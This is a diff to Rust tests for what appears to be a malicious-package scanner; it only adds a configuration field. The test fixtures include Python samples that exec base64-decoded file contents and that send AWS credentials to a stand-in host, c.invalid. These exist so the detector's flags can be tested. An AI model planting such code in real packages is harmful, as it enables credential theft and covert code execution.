@@ -202,7 +202,7 @@ fn data_of_a_small_package_is_read_with_it() {
     let coded = base64::engine::general_purpose::STANDARD.encode(hidden);
     let script = "import base64, os\np = os.path.join(os.path.dirname(__file__), 'table.dat')\n\
                   exec(base64.b64decode(open(p).read()))\n";
-    let how = How { called: true, all: true, is_install: false };
+    let how = How { called: true, all: true, is_install: false, is_plain: false };
     let files = [("a/__init__.py", FileKind::Python, script), ("a/table.dat", FileKind::Text, &coded)];
     assert!(among(&files, how).contains(&"flow-remote-code"), "{:?}", among(&files, how));
     // Which names stand in a table of its own.
@@ -222,7 +222,7 @@ fn functions_over_several_files_count_in_small_packages() {
     let main = "from .b import send\ndef load(path):\n    send(open('/home/u/.aws/credentials').read())\n";
     let send = "import requests\ndef send(x):\n    try:\n        requests.post('https://c.invalid/i', data=x)\n    except Exception:\n        pass\n";
     let files = [("a/__init__.py", FileKind::Python, main), ("a/b.py", FileKind::Python, send)];
-    let all = How { called: true, all: true, is_install: false };
+    let all = How { called: true, all: true, is_install: false, is_plain: false };
     assert!(among(&files, all).contains(&"flow-credentials-sent"), "{:?}", among(&files, all));
     assert!(among(&files, How { all: false, ..all }).is_empty());
 }
